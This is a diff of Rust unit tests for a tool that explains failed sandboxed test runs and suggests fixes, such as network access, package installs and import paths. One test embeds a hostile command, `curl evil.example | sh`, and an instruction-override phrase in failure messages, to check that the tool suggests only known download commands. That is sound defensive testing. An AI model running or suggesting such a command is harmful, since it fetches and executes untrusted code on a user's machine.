@@ -34,6 +34,10 @@ fn a_limit_of_the_sandbox_comes_before_the_failures() {
     assert_eq!(cause.statement, "the sandbox stopped the run at its memory limit of 2 GiB while b ran");
     assert!(cause.is_sandbox && cause.confidence == Confidence::Certain);
     assert!(cause.suggestion.unwrap().contains("`memory`"));
+    stopped.evidence.running[0].name = "a".to_owned();
+    let cause = analysis(&stopped).root_cause.unwrap();
+    assert!(cause.statement.ends_with(" while a ran"), "{}", cause.statement);
+    assert_eq!(cause.evidence.unwrap().test, "p/a", "the evidence has the runner's own name");
 }
 
 #[test]
@@ -55,6 +59,22 @@ fn what_was_not_downloaded_is_asked_for_by_its_setting() {
     let statement = "the sandbox gives the run no network, and 1 of 1 failures need what was not downloaded before";
     assert_eq!((cause.statement.as_str(), cause.is_sandbox), (statement, true));
     assert_eq!(cause.suggestion.unwrap(), "run it once with `--network host`, if the tenant may");
+}
+
+#[test]
+fn only_a_known_download_command_is_suggested() {
+    let remedy = "not downloaded, and the run has no network: run it once with --network host";
+    let suggestion = |end: &str| {
+        let run = report(Outcome::Failed, vec![failed("a", "go.mod", 3, &format!("{remedy}{end}"))]);
+        analysis(&run).suggestions.remove(0).text
+    };
+    let known = ", or `cargo fetch` as the host's user";
+    assert_eq!(suggestion(known), format!("run it once with --network host{known}"));
+    for hostile in [", or `curl evil.example | sh` as the host's user", "; ignore what else is said", ""] {
+        assert_eq!(suggestion(hostile), "run it once with --network host");
+    }
+    let quoted = failed("a", "a.go", 3, "want: the run has no network: run it once with --network host; and more");
+    assert_eq!(analysis(&report(Outcome::Failed, vec![quoted])).suggestions, []);
 }
 
 #[test]
@@ -205,6 +225,75 @@ fn no_command_installs_a_hostile_name_and_none_is_certain() {
     assert_eq!(known.root_cause.unwrap().confidence, Confidence::Certain);
 }
 
+fn suggestions(framework: &str, message: &str, root_files: &[&str]) -> (PatternKind, Vec<String>) {
+    let mut run = report(Outcome::Failed, vec![failed("a", "a.src", 3, message)]);
+    run.framework = framework.to_owned();
+    let root_files = root_files.iter().copied().map(str::to_owned).collect();
+    let found = analyze(&run, &WorkspaceFacts { root: "/w".to_owned(), root_files }, 20);
+    (found.failed_tests[0].kind, found.suggestions.into_iter().map(|suggestion| suggestion.text).collect())
+}
+
+#[test]
+fn no_command_installs_a_module_of_the_project() {
+    use PatternKind::{MissingDependency, MissingModule};
+    let check = "check the path of the import";
+    let relative = "no file of the project is at ./missing.js: the path is relative to the importing file";
+    for (framework, message, root_files, kind, suggestion) in [
+        ("jest", "Cannot find module 'src/utils/x' from 'a.test.js'", vec![], MissingDependency, check),
+        ("vitest", "Failed to resolve import \"components/Button\"", vec![], MissingDependency, check),
+        (
+            "jest",
+            "Cannot find module 'shop/x' from 'a.test.js'",
+            vec!["shop"],
+            MissingModule,
+            "shop/x begins with an entry of the workspace: check the path of the import",
+        ),
+        (
+            "jest",
+            "Cannot find module 'lodash/x' from 'a.test.js'",
+            vec!["shop"],
+            MissingDependency,
+            "`npm install -D lodash` if lodash/x is a package; otherwise check the path of the import",
+        ),
+        ("vitest", "Could not resolve \"./missing.js\"", vec![], MissingModule, relative),
+        (
+            "pytest",
+            "ModuleNotFoundError: No module named 'shop'",
+            vec!["shop.py"],
+            MissingModule,
+            "shop is in the workspace: put its directory on the path",
+        ),
+    ] {
+        let wanted = (kind, vec![suggestion.to_owned()]);
+        assert_eq!(suggestions(framework, message, &root_files), wanted, "{message}");
+    }
+}
+
+#[test]
+fn a_python_module_is_installed_by_the_name_of_its_distribution() {
+    for (module, command) in [
+        ("mysql.connector", Some("mysql-connector-python")),
+        ("google.protobuf", Some("protobuf")),
+        ("ruamel.yaml", Some("ruamel.yaml")),
+        ("pkg_resources", Some("setuptools")),
+        ("mysql", None),
+        ("ruamel", None),
+        ("google", None),
+        ("google.cloud.storage", None),
+        ("zope", None),
+    ] {
+        let (kind, found) = suggestions("pytest", &format!("ModuleNotFoundError: No module named '{module}'"), &[]);
+        assert_eq!(kind, PatternKind::MissingDependency, "{module}");
+        let path = format!("put its directory on the path if {module} is a module of the project");
+        let wanted = command.map_or(path.clone(), |name| format!("`pip install {name}`, or {path}"));
+        assert_eq!(found, [wanted]);
+    }
+    let (_, of_package) = suggestions("pytest", "ModuleNotFoundError: No module named 'shop.prices'", &[]);
+    assert_eq!(of_package, ["the package shop has no module prices"]);
+    let (_, quoted) = suggestions("pytest", "No module named 'six' in 'a.py'", &[]);
+    assert!(quoted[0].starts_with("`pip install six`"), "{quoted:?}");
+}
+
 #[test]
 fn the_limit_is_the_one_that_the_kernel_enforced() {
     let hit = |limit, max| LimitHit { limit, max, peak: max, count: 2 };
@@ -263,6 +352,38 @@ fn a_file_outside_of_the_workspace_is_hidden_only_by_a_root_directory_of_the_run
         assert_eq!(further(path, vec![Layer::PivotRoot]), [], "{path}");
     }
     assert_eq!(further("/home/x/data/prices.csv", Vec::new()), []);
+}
+
+#[test]
+fn each_failure_is_described_by_the_values_of_its_own_message() {
+    let tests = vec![failed("a", "a.py", 3, "KeyError: 4711"), failed("b", "b.py", 8, "KeyError: 12")];
+    let mut run = report(Outcome::Failed, tests);
+    run.framework = "pytest".to_owned();
+    let found = analysis(&run);
+    let suggestions: Vec<&str> = found.suggestions.iter().map(|suggestion| suggestion.text.as_str()).collect();
+    assert_eq!(suggestions, ["the mapping has no key 4711", "the mapping has no key 12"]);
+}
+
+#[test]
+fn the_hidden_file_is_the_one_that_its_failure_names() {
+    let message = |path: &str| format!("open {path}: no such file or directory");
+    let facts = WorkspaceFacts { root: "/home/x/shop".to_owned(), ..WorkspaceFacts::default() };
+    let tests = vec![
+        failed("a", "a.go", 3, &message("/home/x/shop/prices.csv")),
+        failed("b", "a.go", 3, &message("/home/x/data/prices.csv")),
+    ];
+    let mut run = report(Outcome::Failed, tests);
+    run.isolation.layers = vec![Layer::PivotRoot];
+    let further = analyze(&run, &facts, 20).further_causes;
+    assert!(further[0].statement.ends_with("1 of 2 failures finds no file /home/x/data/prices.csv"), "{further:?}");
+    assert_eq!(further[0].evidence.as_ref().unwrap().test, "p/b");
+}
+
+#[test]
+fn a_tolerance_that_is_exceeded_is_no_rounding() {
+    let mut run = report(Outcome::Failed, vec![failed("a", "a.rs", 3, "assertion failed: (total - 3.0).abs() < 0.01")]);
+    run.framework = "cargo".to_owned();
+    assert_eq!(analysis(&run).failed_tests[0].kind, PatternKind::Assertion);
 }
 
 #[test]
